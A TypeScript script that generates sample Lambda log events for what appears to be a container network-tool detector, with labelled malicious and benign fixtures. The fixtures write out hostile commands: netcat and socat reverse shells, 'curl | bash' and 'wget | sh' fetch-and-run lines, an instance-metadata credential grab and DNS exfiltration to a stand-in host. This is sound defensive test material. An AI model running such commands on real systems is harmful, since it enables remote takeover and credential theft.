/**
 * Writes the sample Lambda events in events/ and events/manifest.json from the readable
 * definitions below. Run with `npm run events`; the output is committed so `sam local invoke`
 * and `npm run demo` work without a build step. A test checks the files are up to date.
 */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { type AwslogsPayload, controlPayload, encodeAwslogsEvent } from "../../src/ingest/encode.js";
import type { Severity } from "../../src/model.js";
import { FIELD_SAMPLES } from "./field-samples.js";
import { cloudtrailEcsExec, datadogExec, falcoAlert, k8sAuditExec, tetragonExec } from "./messages.js";
import { shipperSamples } from "./shipper-samples.js";

const ACCOUNT = "123456789012";
const EKS_APP_GROUP = "/aws/containerinsights/prod-eks/application";
const EKS_APP_STREAM = "tetragon-7xk2p_kube-system_export-stdout-3c0e6f1a2b";
const ECS_GROUP = "/ecs/payments-api";
const ECS_TASK = "0f6c2d9e8b7a41c3a5d4e3f2b1a09c8d";
const BASE = Date.UTC(2026, 10, 28, 10, 15, 2);

interface Sample {
  file: string;
  format: string;
  shows: string;
  expect: { signals: number; severity?: Severity; error?: boolean; control?: boolean };
  logGroup: string;
  logStream: string;
  messages: string[];
  wrap?: "awslogs" | "kinesis" | "control" | "corrupt-gzip";
}

const plainLines = [
  "2026-11-28T10:15:01.992Z INFO  [checkout] GET /healthz 200 1.2ms",
  "START RequestId: 5c1d7a2e-8f3b-4e6a-9d0c-1b2a3c4d5e6f Version: $LATEST",
  "curl: (7) Failed to connect to payments-db port 5432 after 3 ms: Connection refused",
  '{"level":"info","msg":"payment authorized","order":"A-10023","latency_ms":41}',
];

const SAMPLES: Sample[] = [
  {
    file: "tetragon-download-to-tmp.json",
    format: "tetragon",
    shows: "curl launched by /tmp/.x/loader saves a payload into /tmp; app lines around it",
    expect: { signals: 1, severity: "high" },
    logGroup: EKS_APP_GROUP,
    logStream: EKS_APP_STREAM,
    messages: [
      plainLines[0]!,
      tetragonExec({ binary: "/bin/ls", arguments: "-la /app" }, [{ binary: "/bin/sh" }]),
      tetragonExec(
        { binary: "/usr/bin/curl", arguments: "-fsSL http://203.0.113.7/x86_64 -o /tmp/.x/kworker" },
        [
          { binary: "/tmp/.x/loader", arguments: "--quiet" },
          { binary: "/bin/sh", arguments: "-c /tmp/.x/loader --quiet" },
          { binary: "/usr/local/bin/node", arguments: "server.js" },
        ],
      ),
      plainLines[3]!,
    ],
  },
  {
    file: "tetragon-reverse-shell.json",
    format: "tetragon",
    shows: "netcat copied to /tmp runs a reverse shell (-e /bin/sh), three times in one batch",
    expect: { signals: 1, severity: "critical" },
    logGroup: EKS_APP_GROUP,
    logStream: EKS_APP_STREAM,
    messages: [1, 2, 3].map((i) =>
      tetragonExec(
        { binary: "/tmp/nc", arguments: "-e /bin/sh 198.51.100.23 4444", cwd: "/tmp" },
        [{ binary: "/bin/bash", arguments: "-i" }],
        { time: `2026-11-28T10:15:0${i}.000000000Z` },
      ),
    ),
  },
  {
    file: "tetragon-benign.json",
    format: "tetragon",
    shows: "health check curl to localhost, curl --version, ncdu, a host-level curl, dig (low)",
    expect: { signals: 0 },
    logGroup: EKS_APP_GROUP,
    logStream: EKS_APP_STREAM,
    messages: [
      tetragonExec({ binary: "/usr/bin/curl", arguments: "-fsS http://localhost:8080/healthz" }, [
        { binary: "/bin/sh", arguments: "-c curl -fsS http://localhost:8080/healthz" },
      ]),
      tetragonExec({ binary: "/usr/bin/curl", arguments: "--version" }, [{ binary: "/bin/sh" }]),
      tetragonExec({ binary: "/usr/bin/ncdu", arguments: "-x /var/log" }, [{ binary: "/bin/bash" }]),
      tetragonExec(
        { binary: "/usr/bin/curl", arguments: "-sO http://198.51.100.5/patch.tgz" },
        [{ binary: "/tmp/runner" }],
        {
          inPod: false,
        },
      ),
      tetragonExec({ binary: "/usr/bin/dig", arguments: "+short payments-db.payments.svc.cluster.local" }, [
        { binary: "/bin/sh" },
      ]),
    ],
  },
  {
    file: "falco-wget-piped-to-shell.json",
    format: "falco",
    shows: "Falco alert: wget output piped into sh by its parent shell",
    expect: { signals: 1, severity: "critical" },
    logGroup: "/aws/containerinsights/prod-eks/application",
    logStream: "falco-8q2lm_falco_falco-9c1d2e3f4a",
    messages: [
      falcoAlert(
        "Launch Ingress Remote File Copy Tools in Container",
        "Notice",
        {
          "container.id": "b3c1f9e2a7d4",
          "container.image.repository": "docker.io/library/nginx",
          "container.image.tag": "1.27",
          "container.name": "web",
          "evt.type": "execve",
          "k8s.ns.name": "storefront",
          "k8s.pod.name": "web-5b7d9c6f4-qm2zt",
          "proc.cmdline": "wget -qO- http://203.0.113.50/i.sh",
          "proc.exepath": "/usr/bin/wget",
          "proc.name": "wget",
          "proc.pcmdline": "sh -c wget -qO- http://203.0.113.50/i.sh | sh",
          "proc.pexepath": "/bin/dash",
          "proc.pname": "sh",
          "user.name": "www-data",
        },
        "2026-11-28T10:16:40.482915037Z",
      ),
    ],
  },
  {
    file: "falco-host-process.json",
    format: "falco",
    shows: "Falco alert for curl on the node itself (container.id=host): not a container",
    expect: { signals: 0 },
    logGroup: "/aws/containerinsights/prod-eks/application",
    logStream: "falco-8q2lm_falco_falco-9c1d2e3f4a",
    messages: [
      falcoAlert(
        "Launch Ingress Remote File Copy Tools in Container",
        "Notice",
        {
          "container.id": "host",
          "container.name": "host",
          "proc.cmdline": "curl -o /tmp/bootstrap.sh https://203.0.113.9/bootstrap.sh",
          "proc.exepath": "/usr/bin/curl",
          "proc.name": "curl",
          "proc.pname": "cloud-init",
          "user.name": "root",
        },
        "2026-11-28T10:17:00.000000000Z",
      ),
    ],
  },
  {
    file: "datadog-imds-credentials.json",
    format: "datadog",
    shows: "curl to the instance metadata credentials endpoint from an ECS task",
    expect: { signals: 1, severity: "high" },
    logGroup: ECS_GROUP,
    logStream: `ecs/datadog-agent/${ECS_TASK}`,
    messages: [
      datadogExec({
        path: "/usr/bin/curl",
        argv: [
          "curl",
          "-s",
          "http://169.254.169.254/latest/meta-data/iam/security-credentials/payments-task",
        ],
        ancestors: ["/bin/bash", "/usr/bin/python3.12"],
        containerId: "7e3b9c1d5a2f4e6b8c0d1e2f3a4b5c6d-1234567890",
        tags: [
          "ecs_cluster_name:prod",
          `task_arn:arn:aws:ecs:us-east-1:${ACCOUNT}:task/prod/${ECS_TASK}`,
          "image_name:payments-api",
        ],
        time: "2026-11-28T10:18:12.331Z",
      }),
    ],
  },
  {
    file: "datadog-dns-exfiltration.json",
    format: "datadog",
    shows: "nslookup of a long hex-encoded subdomain, launched from /dev/shm",
    expect: { signals: 1, severity: "high" },
    logGroup: ECS_GROUP,
    logStream: `ecs/datadog-agent/${ECS_TASK}`,
    messages: [
      datadogExec({
        path: "/usr/bin/nslookup",
        argv: [
          "nslookup",
          "6b7a3f9e2d1c0b8a7f6e5d4c3b2a19087f6e5d4c3b2a1908.7f6e5d4c.x.exfil-203-0-113-7.example",
        ],
        ancestors: ["/dev/shm/.s/run", "/bin/sh"],
        containerId: "7e3b9c1d5a2f4e6b8c0d1e2f3a4b5c6d-1234567890",
        time: "2026-11-28T10:18:30.004Z",
      }),
      plainLines[2]!,
    ],
  },
  {
    file: "eks-audit-kubectl-exec.json",
    format: "k8s-audit",
    shows: "kubectl exec … sh -c 'curl … | bash', logged at three audit stages (one signal)",
    expect: { signals: 1, severity: "critical" },
    logGroup: "/aws/eks/prod-eks/cluster",
    logStream: "kube-apiserver-audit-4f1e2d3c4b5a69788796a5b4c3d2e1f0",
    messages: ["RequestReceived", "ResponseStarted", "ResponseComplete"].map((stage) =>
      k8sAuditExec({
        auditID: "1b9e5f3c-7d2a-4c8e-9f1b-3a5c7e9d1f2b",
        stage,
        namespace: "payments",
        pod: "checkout-api-7d9f6c5b8-x2x7k",
        container: "checkout-api",
        command: ["sh", "-c", "curl -fsSL http://203.0.113.7/s.sh | bash"],
        time: "2026-11-28T10:20:05.118273Z",
      }),
    ),
  },
  {
    file: "eks-audit-benign.json",
    format: "k8s-audit",
    shows: "kubectl exec ls, kubectl attach and kubectl logs: no network utility",
    expect: { signals: 0 },
    logGroup: "/aws/eks/prod-eks/cluster",
    logStream: "kube-apiserver-audit-4f1e2d3c4b5a69788796a5b4c3d2e1f0",
    messages: [
      k8sAuditExec({
        auditID: "2c8d4e6f-0a1b-4c3d-8e5f-7a9b1c3d5e7f",
        stage: "ResponseStarted",
        namespace: "payments",
        pod: "checkout-api-7d9f6c5b8-x2x7k",
        container: "checkout-api",
        command: ["ls", "-la", "/app"],
        time: "2026-11-28T10:21:00.000000Z",
      }),
      k8sAuditExec({
        auditID: "3d9e5f7a-1b2c-4d4e-9f6a-8b0c2d4e6f8a",
        stage: "ResponseStarted",
        namespace: "payments",
        pod: "checkout-api-7d9f6c5b8-x2x7k",
        container: "checkout-api",
        command: [],
        subresource: "attach",
        time: "2026-11-28T10:21:30.000000Z",
      }),
      k8sAuditExec({
        auditID: "4e0f6a8b-2c3d-4e5f-8a7b-9c1d3e5f7a9b",
        stage: "ResponseComplete",
        namespace: "payments",
        pod: "checkout-api-7d9f6c5b8-x2x7k",
        container: "checkout-api",
        command: [],
        subresource: "log",
        time: "2026-11-28T10:22:00.000000Z",
        code: 200,
      }),
    ],
  },
  {
    file: "cloudtrail-ecs-exec-socat.json",
    format: "cloudtrail-ecs-exec",
    shows: "ECS Exec session runs socat EXEC:/bin/sh to a remote host (reverse shell)",
    expect: { signals: 1, severity: "critical" },
    logGroup: "aws-cloudtrail-logs-123456789012-management",
    logStream: "123456789012_CloudTrail_us-east-1",
    messages: [
      cloudtrailEcsExec({
        cluster: "prod",
        task: ECS_TASK,
        container: "payments-api",
        command: "/bin/sh -c 'socat EXEC:/bin/sh,pty,stderr TCP:198.51.100.9:9001'",
        time: "2026-11-28T10:23:45Z",
        eventID: "5f1a3b5c-7d9e-4f1a-8b3c-5d7e9f1a3b5c",
        sessionId: "ecs-execute-command-0a1b2c3d4e5f67890",
      }),
    ],
  },
  {
    file: "cloudtrail-ecs-exec-benign.json",
    format: "cloudtrail-ecs-exec",
    shows: "ECS Exec interactive /bin/sh, and a denied ExecuteCommand: no signal",
    expect: { signals: 0 },
    logGroup: "aws-cloudtrail-logs-123456789012-management",
    logStream: "123456789012_CloudTrail_us-east-1",
    messages: [
      cloudtrailEcsExec({
        cluster: "prod",
        task: ECS_TASK,
        container: "payments-api",
        command: "/bin/sh",
        time: "2026-11-28T10:24:10Z",
        eventID: "6a2b4c6d-8e0f-4a2b-9c4d-6e8f0a2b4c6d",
        sessionId: "ecs-execute-command-1b2c3d4e5f6a78901",
      }),
      cloudtrailEcsExec({
        cluster: "prod",
        task: ECS_TASK,
        container: "payments-api",
        command: "/bin/sh -c 'curl http://203.0.113.7/x | sh'",
        time: "2026-11-28T10:24:40Z",
        eventID: "7b3c5d7e-9f1a-4b3c-8d5e-7f9a1b3c5d7e",
        sessionId: "ecs-execute-command-2c3d4e5f6a7b89012",
        errorCode: "InvalidParameterException",
      }),
    ],
  },
  {
    file: "mixed-batch-with-garbage.json",
    format: "mixed",
    shows: "plain lines, truncated JSON, wrong-typed fields and one real Falco alert",
    expect: { signals: 1, severity: "medium" },
    logGroup: "/aws/containerinsights/prod-eks/application",
    logStream: "falco-8q2lm_falco_falco-9c1d2e3f4a",
    messages: [
      ...plainLines,
      '{"output_fields": {"proc.name": "curl", "proc.cmdline": "curl http://x',
      JSON.stringify({ output_fields: { "proc.name": 42, "container.id": ["x"] }, rule: 7 }),
      JSON.stringify({ process_exec: "curl" }),
      falcoAlert(
        "Launch Suspicious Network Tool in Container",
        "Notice",
        {
          "container.id": "c4d2e0f3b8a5",
          "container.image.repository": `${ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/reports`,
          "container.name": "reports",
          "k8s.ns.name": "analytics",
          "k8s.pod.name": "reports-6c8d7f5b9-h4k2m",
          "proc.cmdline": "socat TCP-LISTEN:9000,fork TCP:10.0.8.20:5432",
          "proc.exepath": "/home/app/.local/bin/socat",
          "proc.name": "socat",
          "proc.pname": "bash",
          "user.name": "app",
        },
        "2026-11-28T10:25:00.000000000Z",
      ),
    ],
  },
  ...FIELD_SAMPLES,
  ...shipperSamples(),
];

function logEventId(timestamp: number, index: number): string {
  // CloudWatch Logs event ids are 56-digit decimal strings.
  return `${timestamp}${String(index).padStart(6, "0")}`.padEnd(56, "7").slice(0, 56);
}

function payloadOf(sample: Sample): AwslogsPayload {
  return {
    messageType: "DATA_MESSAGE",
    owner: ACCOUNT,
    logGroup: sample.logGroup,
    logStream: sample.logStream,
    subscriptionFilters: ["netutil-detector"],
    logEvents: sample.messages.map((message, i) => ({
      id: logEventId(BASE + i, i),
      timestamp: BASE + i,
      message,
    })),
  };
}

interface ManifestRow {
  file: string;
  format: string;
  shows: string;
  expect: Sample["expect"];
}

function expectation(e: Sample["expect"]): string {
  if (e.error) return "invocation fails (DecodeError), Lambda retries";
  if (e.control) return "acknowledged, no signal";
  if (e.signals === 0) return "no signal";
  return `${e.signals} signal${e.signals > 1 ? "s" : ""}${e.severity ? `, ${e.severity}` : ""}`;
}

/** events/README.md, generated so the table never drifts from the files. */
export function readme(manifest: ManifestRow[]): string {
  const cell = (text: string) => text.replaceAll("|", "\\|");
  const rows = manifest.map(
    (m) => `| [${m.file}](${m.file}) | ${m.format} | ${cell(m.shows)} | ${expectation(m.expect)} |`,
  );
  return [
    "# Sample events",
    "",
    "Lambda events exactly as CloudWatch Logs delivers them to a subscribed function",
    '(`{"awslogs":{"data": base64(gzip(json))}}`), plus one Kinesis event. They are generated by',
    "`npm run events` from the readable message builders in [src/messages.ts](src/messages.ts) and the",
    "sample list in [src/generate.ts](src/generate.ts) — edit those, never the JSON. `manifest.json` holds",
    "the table below in machine form; `npm run demo` and the tests check every file against it.",
    "",
    "Try them:",
    "",
    "```sh",
    "node dist/cli.js invoke events/tetragon-reverse-shell.json          # no Docker needed",
    "sam local invoke Detector -t infra/sam/template.yaml --env-vars infra/sam/env.local.json \\",
    "  -e events/eks-audit-kubectl-exec.json                          # needs Docker; see infra/sam/README.md",
    "```",
    "",
    "With the default `MIN_SEVERITY=medium`:",
    "",
    "| file | format | what it shows | expected outcome |",
    "|---|---|---|---|",
    ...rows,
    "",
    "To make your own from real log lines: `node dist/cli.js encode --log-group /ecs/my-service lines.txt > my-event.json`.",
    "",
  ].join("\n");
}

/** Builds every sample event; returns [file name, JSON text] pairs and the manifest. */
export function buildSamples(): { files: [string, string][]; manifest: ManifestRow[] } {
  const files: [string, string][] = [];
  const manifest: ManifestRow[] = [];
  const add = (sample: Omit<Sample, "messages" | "logGroup" | "logStream">, event: unknown) => {
    files.push([sample.file, `${JSON.stringify(event, null, 2)}\n`]);
    manifest.push({ file: sample.file, format: sample.format, shows: sample.shows, expect: sample.expect });
  };
  for (const sample of SAMPLES) add(sample, encodeAwslogsEvent(payloadOf(sample)));

  add(
    {
      file: "control-message.json",
      format: "control",
      shows: "CONTROL_MESSAGE health probe sent when a subscription is created",
      expect: { signals: 0, control: true },
    },
    encodeAwslogsEvent(
      controlPayload(ECS_GROUP, "log_stream_created_by_aws_to_validate_log_delivery_subscriptions"),
    ),
  );

  const kinesisSources = [SAMPLES[1]!, SAMPLES[5]!];
  add(
    {
      file: "kinesis-two-records.json",
      format: "kinesis",
      shows: "Kinesis delivery path: two records carrying CloudWatch Logs payloads",
      expect: { signals: 2, severity: "critical" },
    },
    {
      Records: kinesisSources.map((sample, i) => ({
        kinesis: {
          kinesisSchemaVersion: "1.0",
          partitionKey: "c4d2e0f3b8a5c4d2e0f3b8a5",
          sequenceNumber: `4966520918307145328845036016${String(i).padStart(2, "0")}`,
          data: gzipSync(Buffer.from(JSON.stringify(payloadOf(sample)))).toString("base64"),
          approximateArrivalTimestamp: BASE / 1000 + i,
        },
        eventSource: "aws:kinesis",
        eventVersion: "1.0",
        eventID: `shardId-000000000000:4966520918307145328845036016${String(i).padStart(2, "0")}`,
        eventName: "aws:kinesis:record",
        invokeIdentityArn: `arn:aws:iam::${ACCOUNT}:role/netutil-detector`,
        awsRegion: "us-east-1",
        eventSourceARN: `arn:aws:kinesis:us-east-1:${ACCOUNT}:stream/netutil-detector-logs`,
      })),
    },
  );

  add(
    {
      file: "bad-payload.json",
      format: "corrupt",
      shows: "awslogs.data is base64 but not gzip: the invocation fails so Lambda retries it",
      expect: { signals: 0, error: true },
    },
    { awslogs: { data: Buffer.from("this is not gzip data").toString("base64") } },
  );
  return { files, manifest };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const dir = new URL("..", import.meta.url).pathname;
  const { files, manifest } = buildSamples();
  for (const [name, text] of files) writeFileSync(join(dir, name), text);
  writeFileSync(join(dir, "manifest.json"), `${JSON.stringify(manifest, null, 2)}\n`);
  writeFileSync(join(dir, "README.md"), readme(manifest));
  process.stderr.write(`wrote ${files.length} events and manifest.json to ${dir}\n`);
}
